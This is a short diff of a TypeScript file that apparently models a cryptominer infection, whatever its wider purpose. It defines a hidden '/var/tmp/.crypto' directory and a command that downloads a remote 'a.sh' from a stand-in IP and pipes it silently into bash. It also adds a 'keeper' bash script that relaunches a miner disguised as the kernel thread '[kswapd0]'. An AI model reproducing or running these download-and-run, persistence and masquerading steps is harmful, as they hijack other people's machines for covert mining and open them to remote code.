@@ -1,4 +1,4 @@
-import { type Infection, type Item, minerWords, poolPort, shyMiner, wallet } from '../host-part.ts'
+import { endsHere, type Infection, type Item, minerWords, poolPort, shyMiner, wallet } from '../host-part.ts'
 import { loginKey } from '../login-key.ts'
 
 const den = '/var/tmp/.crypto/...'
@@ -6,6 +6,7 @@ const copies = '/var/tmp/.copydie'
 const fetch = '{ /usr/bin/cdz -fsSL http://203.0.113.77/a.sh | bash; } >/dev/null 2>&1'
 const keeper = [
   '#!/bin/bash',
+  endsHere,
   `# Restarts the program while its log is older than ten minutes.`,
   `find ${copies}/[[]kswapd0].log -mmin -10 | grep -q . && exit 0`,
   `nohup '${copies}/[kswapd0]' >>'${copies}/[kswapd0].log' 2>&1 &`,
